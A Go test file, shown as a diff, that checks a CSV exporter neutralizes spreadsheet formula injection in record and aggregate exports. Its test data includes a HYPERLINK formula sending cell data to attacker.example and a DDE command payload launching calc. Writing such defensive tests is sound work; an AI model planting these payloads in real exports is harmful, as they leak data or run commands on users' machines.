@@ -0,0 +1,136 @@
+package models_test
+
+import (
+	"bytes"
+	"context"
+	"encoding/csv"
+	"fmt"
+	"strings"
+	"testing"
+
+	"goodoo/fields"
+	"goodoo/models"
+)
+
+// formulas are texts a spreadsheet would run when opening the export
+var formulas = []string{
+	`=HYPERLINK("http://attacker.example/?"&A1,"Click")`,
+	"=1+2",
+	"+1",
+	"-2+3",
+	"@SUM(A1:A2)",
+	"\tx",
+	"\r=1",
+}
+
+func TestCSVText(t *testing.T) {
+	for _, text := range formulas {
+		if got := models.CSVText(text); got != "'"+text {
+			t.Errorf("CSVText(%q) = %q, want it quoted", text, got)
+		}
+	}
+	for _, text := range []string{"", "Azure Interior", "a=1", " =1", "'=1", "1-2"} {
+		if got := models.CSVText(text); got != text {
+			t.Errorf("CSVText(%q) = %q, want it unchanged", text, got)
+		}
+	}
+}
+
+// exportModel returns a model with a char, a text and an integer field
+func exportModel(t *testing.T) *models.ModelDefinition {
+	model := models.NewModelDefinition("test.export", "test_export")
+	for name, fieldType := range map[string]fields.FieldType{
+		"name": fields.StringType,
+		"note": fields.TextType,
+		"qty":  fields.IntegerType,
+	} {
+		field, err := fields.CreateField(fieldType, fields.FieldAttribute{String: name, Store: true})
+		if err != nil {
+			t.Fatal(err)
+		}
+		model.AddField(name, field)
+	}
+	return model
+}
+
+// TestWriteCSVFormulas writes records holding formulas in batches, as the
+// streaming export does, and checks every cell against the value of the
+// exporter, neutralized when it is a text
+func TestWriteCSVFormulas(t *testing.T) {
+	model := exportModel(t)
+	env := models.NewEnvironment(nil, 0)
+	columns := []string{"name", "note", "qty"}
+
+	var records []map[string]interface{}
+	for i, text := range append(formulas, "Azure Interior", "") {
+		records = append(records, map[string]interface{}{"name": text, "note": strings.ToUpper(text), "qty": -i})
+	}
+
+	var out bytes.Buffer
+	writer, err := model.NewCSVWriter(env, &out, columns, false)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for start := 0; start < len(records); start += 3 {
+		if err := writer.Write(context.Background(), records[start:min(start+3, len(records))]); err != nil {
+			t.Fatalf("Write: %v", err)
+		}
+	}
+
+	lines, err := csv.NewReader(&out).ReadAll()
+	if err != nil {
+		t.Fatalf("invalid CSV: %v", err)
+	}
+	if len(lines) != len(records)+1 {
+		t.Fatalf("%d lines, want a header and %d records", len(lines), len(records))
+	}
+	exported, err := model.ExportRows(context.Background(), records)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, line := range lines[1:] {
+		for j, column := range columns {
+			want := ""
+			switch value := exported[i][column].(type) {
+			case nil:
+			case string:
+				want = value
+				if value != "" && strings.ContainsAny(value[:1], "=+-@\t\r") {
+					want = "'" + value
+				}
+			default:
+				// Numbers keep their sign
+				want = fmt.Sprint(value)
+			}
+			if line[j] != want {
+				t.Errorf("record %d %s = %q, want %q", i, column, line[j], want)
+			}
+		}
+	}
+}
+
+func TestAggregateWriteCSVFormulas(t *testing.T) {
+	result := &models.AggregateResult{
+		GroupBy: "name",
+		Groups: []models.AggregateGroup{
+			{Value: "=cmd|' /C calc'!A0", Count: 2, Values: map[string]interface{}{"qty:sum": -4}},
+			{Value: "Azure Interior", Count: 1, Values: map[string]interface{}{"qty:sum": 3}},
+		},
+	}
+	var out bytes.Buffer
+	if err := result.WriteCSV(&out, []models.AggregateSpec{{Field: "qty", Function: "sum"}}); err != nil {
+		t.Fatal(err)
+	}
+	lines, err := csv.NewReader(&out).ReadAll()
+	if err != nil {
+		t.Fatalf("invalid CSV: %v", err)
+	}
+	want := [][]string{
+		{"name", "count", "qty:sum"},
+		{"'=cmd|' /C calc'!A0", "2", "-4"},
+		{"Azure Interior", "1", "3"},
+	}
+	if fmt.Sprint(lines) != fmt.Sprint(want) {
+		t.Errorf("WriteCSV = %q, want %q", lines, want)
+	}
+}